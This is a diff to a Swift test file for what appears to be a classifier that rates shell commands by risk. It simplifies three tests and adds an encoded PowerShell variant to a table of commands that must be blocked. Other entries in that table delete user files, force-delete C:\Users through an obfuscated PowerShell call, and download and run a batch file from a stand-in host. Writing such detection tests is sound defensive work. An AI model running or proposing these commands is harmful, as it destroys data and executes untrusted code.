@@ -7,23 +7,17 @@ import Verdict
 struct DetourTablesTests {
   @Test("What would hurt is stopped")
   func stopped() {
-    for command in CommandTable.commands(in: Self.stoppedCommands) {
-      #expect(report(on: command).worst >= .high, "\(command)")
-    }
+    CommandTable.expect(Self.stoppedCommands) { $0 >= .high }
   }
 
   @Test("What may hurt is said")
   func said() {
-    for command in CommandTable.commands(in: Self.saidCommands) {
-      #expect(report(on: command).worst >= .medium, "\(command)")
-    }
+    CommandTable.expect(Self.saidCommands) { $0 >= .medium }
   }
 
   @Test("What only looks like it passes in silence")
   func silent() {
-    for command in CommandTable.commands(in: Self.silentCommands) {
-      #expect(report(on: command).worst < .medium, "\(command)")
-    }
+    CommandTable.expect(Self.silentCommands) { $0 < .medium }
   }
 
   private static let stoppedCommands = #"""
@@ -176,6 +170,8 @@ struct DetourTablesTests {
     grep -rl x ~/Documents | xargs rm -f
     %%
     cmd.exe /c "powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIABDADoAXABVAHMAZQByAHMA"
+    %%
+    cmd.exe /c "powershell -nop -e UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIABDADoAXABVAHMAZQByAHMA"
     %%
     curl.exe -sL https://x.example.net/a.bat -o a.bat && call a.bat
     %%
